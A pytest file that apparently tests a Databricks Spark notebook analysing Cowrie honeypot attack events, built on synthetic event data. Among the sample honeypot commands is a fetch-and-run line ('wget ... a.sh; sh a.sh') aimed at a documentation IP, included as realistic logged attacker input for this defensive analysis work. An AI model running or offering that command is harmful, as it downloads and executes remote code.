"""The Spark notebook, and code that was written for the raw events, under local PySpark."""

import gzip
import importlib.util
import itertools
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from random import Random
from typing import Any

import pytest

from stingar_dagster.streams import STINGAR, Stream
from stingar_dagster_tests.examples.project import (
    EXAMPLES,
    HOSTILE,
    ROOT,
    events_a_day,
    events_an_hour,
    shared,
    tries,
)
from stingar_dagster_tests.support import SLICED, Site

NOTEBOOK = EXAMPLES / "attack_trends_spark.py"
REAL = (
    Path(os.environ.get("STINGAR_SHARED_DATA", ROOT.parent / "shared" / "data"))
    / "stingar"
    / "sample-shape-2022-alvarogar23.ndjson.gz"
)
CONF = {
    # Nothing is to listen but on loopback.
    "spark.ui.enabled": "false",
    "spark.driver.host": "127.0.0.1",
    "spark.driver.bindAddress": "127.0.0.1",
    # Of a thousand events, compiling and many small tasks would be all the work.
    "spark.sql.codegen.wholeStage": "false",
    "spark.sql.shuffle.partitions": "2",
    "spark.driver.extraJavaOptions": "-XX:TieredStopAtLevel=1 -XX:+UseSerialGC",
}
MOST_SECONDS = 300


def sample_shape(seed: int = 3) -> list[dict[str, Any]]:
    """Events with the fields of the production sample; all but a few come in every one."""
    random = Random(seed)
    moment = datetime(2026, 11, 3, 23, 30, tzinfo=UTC)
    found: list[dict[str, Any]] = []
    for _ in range(300):
        moment += timedelta(milliseconds=random.randrange(60_000))
        row: dict[str, Any] = {
            "ids_type": "network",
            "dest_ip": "192.0.2.10",
            "type": "cowrie.sessions",
            "src_port": random.randrange(1, 65536),
            "@timestamp": moment.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "tags": random.choice([["beats_input_raw_event"], ["lab", "beats_input_raw_event"]]),
            "src_ip": f"203.0.113.{random.randrange(1, 20)}",
            "vendor_product": "Cowrie",
            "severity": "high",
            "dest_port": random.choice([2222, 2223]),
            "protocol": random.choice(["ssh", "telnet"]),
            "app": "cowrie",
            "transport": "tcp",
            "signature": "SSH login attempted on cowrie honeypot",
            "sensor": random.choice(["lab-1", "lab-2", "campus-forwarder"]),
        }
        if random.random() < 0.5:
            row["loggedin"] = ["root", random.choice(["123456", "", "ünïcode"])]
        if random.random() < 0.4:
            row["signature"] = "command attempted on cowrie honeypot"
            row["command"] = random.choice(
                [
                    "lscpu | grep Model",
                    "wget http://203.0.113.80/a.sh; sh a.sh",
                    "echo '\u00e9\t\"'",
                ]
            )
        found.append(row)
    return found


def published(folder: Path, raw: list[bytes], stream: Stream = STINGAR) -> tuple[str, str]:
    """A file of raw events, and the lake that they were published in."""
    site = Site.at(folder, stream)
    site.put(raw)
    site.run()
    assert len(site.events()) == len(raw)
    path = folder / "raw.json"
    path.write_bytes(b"\n".join(raw) + b"\n")
    return str(path), site.lake


@pytest.fixture(scope="module")
def told(project: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """What came out of the process with Spark."""
    if importlib.util.find_spec("pyspark") is None:
        pytest.skip("PySpark is not there: pip install '.[spark]'")
    if not (os.environ.get("JAVA_HOME") or shutil.which("java")):
        pytest.skip("Java is not there: apt-get install openjdk-17-jre-headless")
    folder = tmp_path_factory.mktemp("spark")
    made_up = [json.dumps(row, ensure_ascii=False).encode() for row in sample_shape()]
    tasks = {
        "made up": published(folder / "made-up", made_up),
        "in slices": published(folder / "in-slices", made_up, SLICED),
    }
    if REAL.is_file():
        lines = gzip.decompress(REAL.read_bytes()).splitlines()
        tasks["real"] = published(folder / "real", lines)
    (folder / "tasks.json").write_text(json.dumps(tasks))
    environment = {k: v for k, v in os.environ.items() if not k.startswith(("STINGAR_", "SPARK_"))}
    environment |= {
        "PYTHONPATH": str(ROOT),
        "PYSPARK_SUBMIT_ARGS": shlex.join(
            ["--master", "local[2]", *(f"--conf={k}={v}" for k, v in CONF.items()), "pyspark-shell"]
        ),
        "PYSPARK_PYTHON": sys.executable,
        "SPARK_LOCAL_IP": "127.0.0.1",
        "TZ": "America/New_York",  # an analyst's machine is seldom set to UTC
    }
    command = [sys.executable, "-m", "stingar_dagster_tests.examples.spark_side"]
    command += [str(NOTEBOOK), str(folder / "tasks.json"), str(folder / "answers.json")]
    done = subprocess.run(
        command, cwd=project, env=environment, capture_output=True, text=True, timeout=MOST_SECONDS
    )
    assert done.returncode == 0, done.stderr[-3000:]
    answers: dict[str, Any] = json.loads((folder / "answers.json").read_text())
    return answers


def test_it_is_a_databricks_notebook() -> None:
    text = NOTEBOOK.read_text()
    assert text.startswith("# Databricks notebook source\n")
    cells = text.removeprefix("# Databricks notebook source\n").split("\n# COMMAND ----------\n")
    assert len(cells) > 5
    for cell in cells:
        lines = [line for line in cell.strip().splitlines() if line]
        magic = [line.startswith("# MAGIC") for line in lines]
        assert lines
        assert all(magic) or not any(magic), cell
        assert not magic[0] or re.match(r"# MAGIC %md$", lines[0])


def test_the_notebook_comes_to_what_a_recount_does(site: Site, told: dict[str, Any]) -> None:
    events, found = site.events(), told["notebook"]
    days = {row["date"]: row["events"] for row in found["trends"] if row["events"]}
    assert days == events_a_day(events)
    expected = tries(events)
    tried = {(r.get("username"), r.get("password")): r["tries"] for r in found["credentials"]}
    assert tried.items() <= expected.items()
    assert sorted(tried.values()) == sorted(expected.values())[-20:]
    assert found["credentials"][0]["password"] == HOSTILE
    assert {(row["sensor"], row["other"]): row["shared"] for row in found["overlap"]} == shared(
        events
    )


def test_its_features_know_only_the_hours_before(site: Site, told: dict[str, Any]) -> None:
    events, features = site.events(), told["notebook"]["features"]
    features.sort(key=lambda row: (row["sensor"], row["at"]))
    for sensor, grouped in itertools.groupby(features, key=lambda row: row["sensor"]):
        counted = events_an_hour(events, sensor=sensor)
        rows = list(grouped)
        assert sum(row["events"] for row in rows) == sum(counted.values())
        assert all(row["events"] == counted.get(row["at"][:13], 0) for row in rows)
        for earlier, later in itertools.pairwise(rows):
            assert later["events_1h_before"] == earlier["events"]


@pytest.mark.parametrize("name", ["made up", "in slices", "real"])
def test_code_for_the_raw_events_runs_unchanged(told: dict[str, Any], name: str) -> None:
    if name not in told:
        pytest.skip(f"needs real events, and there is no {REAL} (STINGAR_SHARED_DATA)")
    answers = told[name]
    types = answers.pop("types")
    assert types["declared"] == types["raw"]
    assert types["inferred"] == types["raw"]
    assert len(answers) > 10
    for query, found in answers.items():
        # The real events are of one sensor, and of one protocol at times.
        assert found["raw"] or name == "real", query
        assert all(answer == found["raw"] for answer in found.values()), query
    assert set(answers["flows"]) == {"raw", "declared", "inferred"}
